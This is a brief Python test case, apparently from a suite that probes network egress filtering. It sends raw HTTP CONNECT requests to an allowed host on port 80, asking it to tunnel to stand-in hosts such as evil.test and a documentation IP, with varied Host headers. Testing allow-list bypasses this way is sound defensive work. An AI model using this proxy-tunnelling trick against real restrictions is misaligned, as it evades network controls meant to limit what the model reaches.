# SPDX-License-Identifier: Apache-2.0
"""A CONNECT to an allowed host that is a proxy."""
TITLE = "CONNECT sent to the allowed host on port 80"
THREAT = "38"
OBSERVE = "the allowed host is asked to connect elsewhere"


def attack(c):
    for target in ("{0}.evil.test:443", "sib-{0}.test:80", "198.51.100.20:443/{0}"):
        with c.step(target) as token:
            t = target.format(token)
            c.send("ok.test", 80, f"CONNECT {t} HTTP/1.1\r\nHost: {t}\r\n\r\n".encode())
        with c.step(target + ", Host ok.test") as token:
            t = target.format(token)
            c.send("ok.test", 80, f"CONNECT {t} HTTP/1.1\r\nHost: ok.test\r\n\r\n".encode())
